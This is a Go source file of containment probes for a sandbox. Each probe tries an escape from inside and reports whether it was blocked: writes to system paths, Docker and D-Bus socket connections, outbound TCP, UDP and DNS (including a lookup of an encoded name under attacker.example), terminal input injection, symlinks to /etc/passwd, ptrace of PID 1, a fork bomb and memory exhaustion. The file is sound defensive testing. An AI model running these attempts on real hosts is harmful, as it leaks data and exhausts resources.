//go:build linux && amd64

package sandbox

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"runtime"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// probeArg is argv[1] of a probe: the binary re-executed inside the sandbox
// runs one containment probe (issue 8 scope 6) and prints one JSON line.
const probeArg = "__coagent8_sandbox_probe__"

// probePath is where the probe binary is bound inside the sandbox.
const probePath = "/job/probe"

// int80 makes an ia32 system call through the int 0x80 gate.
func int80(trap, a1, a2, a3 uintptr) uintptr

// probeReport is a probe's one-line verdict from inside.
type probeReport struct {
	Contained bool   `json:"contained"`
	Detail    string `json:"detail"`
	// Outcome is set by the foreign-ABI probes (abi_linux.go): whether the
	// call ran or the mechanism is absent.
	Outcome abiOutcome `json:"outcome,omitempty"`
}

// insideProbes run inside the sandbox. Each returns whether the attempt was
// contained and what it observed.
var insideProbes = map[string]func(args []string) (bool, string){
	"write_outside": probeWriteOutside, "unix_sockets": probeUnixSockets, "tcp": probeTCP,
	"udp": probeUDP, "dns": probeDNS, "mptcp": probeMPTCP,
	"abstract": probeAbstract, "terminal": probeTerminal, "symlink_swap": probeSymlinks,
	"fds": probeFDs, "proc": probeProc, "env": probeEnv, "userns": probeUserns,
	"families": probeFamilies, "ptrace": probePtrace, "argv": probeArgv,
	"tree_kill": probeTreeKill, "fork_bomb": probeForkBomb, "memory": probeMemory,
	"_daemon": probeDaemon, "_sleeper": probeSleeper, "gate": probeGate,
	"verify_view": probeVerifyView,
}

func probeMain(name string, args []string) int {
	if f, ok := abiProbes[name]; ok {
		_ = json.NewEncoder(os.Stdout).Encode(f())
		return 0
	}
	f, ok := insideProbes[name]
	if !ok {
		fmt.Fprintln(os.Stderr, "unknown probe")
		return 2
	}
	c, d := f(args)
	_ = json.NewEncoder(os.Stdout).Encode(probeReport{Contained: c, Detail: d})
	return 0
}

// allFail runs attempts and reports contained when every one failed.
func allFail(attempts map[string]error) (bool, string) {
	var b strings.Builder
	ok := true
	for name, err := range attempts {
		if err == nil {
			ok = false
			fmt.Fprintf(&b, "%s: SUCCEEDED; ", name)
			continue
		}
		fmt.Fprintf(&b, "%s: %v; ", name, err)
	}
	return ok, b.String()
}

func probeWriteOutside(args []string) (bool, string) {
	at := map[string]error{}
	for _, p := range append([]string{"/etc/x", "/usr/x", "/x", "/job/x", "/dev/x", "/proc/sys/kernel/hostname"}, args...) {
		at["write "+p] = os.WriteFile(p, []byte("x"), 0o644)
	}
	ok, d := allFail(at)
	if err := os.WriteFile(insideWorkspace+"/ok", []byte("x"), 0o644); err != nil {
		return false, "workspace not writable: " + err.Error()
	}
	return ok, d
}

func probeUnixSockets(args []string) (bool, string) {
	at := map[string]error{}
	for _, p := range append([]string{"/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/user/0/bus", "/tmp/.X11-unix/X0"}, args...) {
		c, err := net.DialTimeout("unix", p, time.Second)
		if err == nil {
			c.Close()
		}
		at["connect "+p] = err
	}
	return allFail(at)
}

func probeTCP(args []string) (bool, string) {
	at := map[string]error{}
	for _, a := range []string{"127.0.0.1:" + args[0], "127.0.0.2:" + args[0], "[::1]:" + args[0], "1.1.1.1:443"} {
		c, err := net.DialTimeout("tcp", a, time.Second)
		if err == nil {
			c.Close()
		}
		at["tcp "+a] = err
	}
	return allFail(at)
}

// probeGate checks the agent profile's one channel: an exchange with the
// gate at 127.0.0.1:args[0] works ("contained" = the profile is usable).
func probeGate(args []string) (bool, string) {
	c, err := net.DialTimeout("tcp", "127.0.0.1:"+args[0], 2*time.Second)
	if err != nil {
		return false, "gate unreachable: " + err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	buf := make([]byte, 4)
	if _, err = c.Write([]byte("ping")); err == nil {
		_, err = io.ReadFull(c, buf)
	}
	return err == nil && string(buf) == "pong", fmt.Sprintf("gate answered %q (%v)", buf, err)
}

func probeUDP(args []string) (bool, string) {
	at := map[string]error{}
	for _, a := range []string{"127.0.0.1:" + args[0], "8.8.8.8:53"} {
		c, err := net.Dial("udp", a)
		if err == nil {
			_, err = c.Write([]byte("probe"))
			c.Close()
		}
		at["udp "+a] = err
	}
	return allFail(at)
}

func probeDNS([]string) (bool, string) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	start := time.Now()
	_, err := net.DefaultResolver.LookupHost(ctx, "c2VjcmV0.attacker.example")
	took := time.Since(start)
	if err == nil {
		return false, "lookup succeeded"
	}
	return took < time.Second, fmt.Sprintf("lookup failed after %v: %v", took.Round(time.Millisecond), err)
}

func probeMPTCP([]string) (bool, string) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 262) // IPPROTO_MPTCP
	if err == nil {
		unix.Close(fd)
	}
	return allFail(map[string]error{"mptcp socket": err})
}

func probeAbstract(args []string) (bool, string) {
	c, err := net.DialTimeout("unix", "@"+args[0], time.Second)
	if err == nil {
		c.Close()
	}
	return allFail(map[string]error{"abstract @" + args[0]: err})
}

// probeTerminal requires EPERM (the filter), not ENOTTY (which would only
// mean fd 1 is not a terminal).
func probeTerminal([]string) (bool, string) {
	b := byte('x')
	var errs []string
	ok := true
	for _, req := range []uint64{unix.TIOCSTI, unix.TIOCSTI | 1<<32, unix.TIOCLINUX} {
		_, _, e := unix.Syscall(unix.SYS_IOCTL, 1, uintptr(req), uintptr(unsafe.Pointer(&b)))
		ok = ok && e == unix.EPERM
		errs = append(errs, fmt.Sprintf("ioctl %#x: %v", req, e))
	}
	f, err := os.Open("/dev/tty")
	if err == nil {
		f.Close()
		ok = false
	}
	return ok, strings.Join(errs, "; ") + fmt.Sprintf("; open /dev/tty: %v", err)
}

func probeSymlinks(args []string) (bool, string) {
	links := map[string]string{"out": "/etc/passwd", "dir": "/", "canary": args[0]}
	for name, target := range links {
		_ = os.Symlink(target, insideArtifacts+"/"+name)
	}
	_ = os.Symlink(args[0], insideWorkspace+"/link")
	werr := os.WriteFile(insideWorkspace+"/link", []byte("overwritten"), 0o644)
	if err := os.WriteFile(insideArtifacts+"/ok.txt", []byte("artifact"), 0o644); err != nil {
		return false, "artifacts not writable: " + err.Error()
	}
	return true, fmt.Sprintf("write through workspace link: %v", werr)
}

// probeFDs lists descriptors with raw syscalls (os.Open would make the
// runtime open its own epoll descriptors first).
func probeFDs([]string) (bool, string) {
	d, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false, "cannot list fds: " + err.Error()
	}
	buf := make([]byte, 8192)
	n, _ := unix.ReadDirent(d, buf)
	_, _, names := unix.ParseDirent(buf[:n], -1, nil)
	var extra []string
	for _, name := range names {
		if v, _ := strconv.Atoi(name); v > 2 && v != d {
			t, _ := os.Readlink("/proc/self/fd/" + name)
			extra = append(extra, name+"->"+t)
		}
	}
	unix.Close(d)
	at := map[string]error{}
	for _, p := range []string{"/proc/self/exe", "/proc/1/exe"} {
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err == nil {
			f.Close()
		}
		at["write "+p] = err
	}
	ok, detail := allFail(at)
	return ok && len(extra) == 0, fmt.Sprintf("extra fds %v; %s", extra, detail)
}

func probeProc([]string) (bool, string) {
	ents, _ := os.ReadDir("/proc")
	var pids []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			pids = append(pids, n)
		}
	}
	env, envErr := os.ReadFile("/proc/1/environ")
	_, rootErr := os.Readlink("/proc/1/root")
	ok := len(pids) > 0 && len(pids) <= 4 && len(env) == 0 && rootErr != nil
	for _, p := range pids {
		ok = ok && p < 100
	}
	return ok, fmt.Sprintf("pids %v; /proc/1/environ %d bytes (%v); /proc/1/root: %v", pids, len(env), envErr, rootErr)
}

func probeEnv([]string) (bool, string) {
	names := envNames(os.Environ())
	return true, strings.Join(names, ",")
}

func probeUserns([]string) (bool, string) {
	_, _, clone3 := unix.RawSyscall(unix.SYS_CLONE3, 0, 0, 0)
	at := map[string]error{
		"unshare user":  unix.Unshare(unix.CLONE_NEWUSER),
		"unshare mount": unix.Unshare(unix.CLONE_NEWNS),
		"setns":         unix.Setns(0, 0),
		"mount tmpfs":   unix.Mount("x", "/tmp", "tmpfs", 0, ""),
		"clone3":        errnoOrNil(clone3),
	}
	ok, d := allFail(at)
	return ok && clone3 == unix.ENOSYS, d
}

func errnoOrNil(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

func probeFamilies([]string) (bool, string) {
	at := map[string]error{}
	_, _, e := unix.RawSyscall(unix.SYS_IO_URING_SETUP, 1, 0, 0)
	at["io_uring_setup"] = errnoOrNil(e)
	fams := []struct {
		name           string
		dom, typ, prot int
	}{{"AF_INET", unix.AF_INET, unix.SOCK_STREAM, 0}, {"AF_INET6", unix.AF_INET6, unix.SOCK_DGRAM, 0},
		{"AF_VSOCK", unix.AF_VSOCK, unix.SOCK_STREAM, 0}, {"AF_PACKET", unix.AF_PACKET, unix.SOCK_RAW, 0},
		{"AF_NETLINK audit", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT},
		{"AF_ALG", unix.AF_ALG, unix.SOCK_SEQPACKET, 0}, {"AF_BLUETOOTH", unix.AF_BLUETOOTH, unix.SOCK_STREAM, 0}}
	for _, f := range fams {
		fd, err := unix.Socket(f.dom, f.typ, f.prot)
		if err == nil {
			unix.Close(fd)
		}
		at[f.name] = err
	}
	return allFail(at)
}

func probePtrace([]string) (bool, string) {
	_, _, pe := unix.RawSyscall(unix.SYS_PTRACE, unix.PTRACE_ATTACH, 1, 0)
	buf := make([]byte, 8)
	local := []unix.Iovec{{Base: &buf[0], Len: 8}}
	remote := []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
	_, vmErr := unix.ProcessVMReadv(1, local, remote, 0)
	return allFail(map[string]error{"ptrace attach 1": errnoOrNil(pe), "process_vm_readv 1": vmErr})
}

func probeArgv(args []string) (bool, string) {
	b, _ := json.Marshal(args)
	return true, string(b)
}

// probeTreeKill leaves a double-forked, setsid, SIGTERM-ignoring daemon
// behind and waits to be cancelled (notes test 14).
func probeTreeKill([]string) (bool, string) {
	cmd := exec.Command(probePath, probeArg, "_daemon")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Run(); err != nil {
		return false, "daemon start failed: " + err.Error()
	}
	fmt.Println("ready")
	time.Sleep(time.Hour)
	return false, "not cancelled"
}

func probeDaemon([]string) (bool, string) {
	cmd := exec.Command(probePath, probeArg, "_sleeper")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	err := cmd.Start()
	return err == nil, fmt.Sprint(err)
}

func probeSleeper([]string) (bool, string) {
	ignoreTermination()
	for {
		_ = os.WriteFile(insideScratch+"/tick", []byte(time.Now().String()), 0o644)
		time.Sleep(50 * time.Millisecond)
	}
}

// probeForkBomb starts sleepers until the pids limit refuses one.
//
// The pids limit counts threads too, and a Go runtime that cannot create a
// thread it needs dies ("failed to create new OS thread"): the probe then
// printed no report and qualification failed under load (seen in CI on a
// fresh host). So the children are single-threaded sleep(1) processes, not
// Go sleepers, and the probe itself keeps to one P with the collector off,
// which leaves the runtime no reason to start a thread near the limit.
func probeForkBomb([]string) (bool, string) {
	runtime.GOMAXPROCS(1)
	debug.SetGCPercent(-1)
	runtime.LockOSThread()
	for n := 0; n < 5000; n++ {
		cmd := exec.Command("/usr/bin/sleep", "600")
		if err := cmd.Start(); err != nil {
			return errors.Is(err, syscall.EAGAIN), fmt.Sprintf("stopped after %d processes: %v", n, err)
		}
	}
	return false, "5000 processes started"
}

// probeMemory touches memory until the memory limit kills it.
func probeMemory([]string) (bool, string) {
	var keep [][]byte
	for i := 0; i < 256; i++ {
		b := make([]byte, 16<<20)
		for j := range b {
			if j%4096 == 0 {
				b[j] = 1
			}
		}
		keep = append(keep, b)
	}
	return false, fmt.Sprintf("allocated %d MiB", len(keep)*16)
}

func sortStrings(s []string) { slices.Sort(s) }

// leakableFD opens a file without O_CLOEXEC (a descriptor a careless
// library might leave inheritable).
func leakableFD(dir string) (int, error) {
	return unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
}

func closeFD(fd int) { unix.Close(fd) }
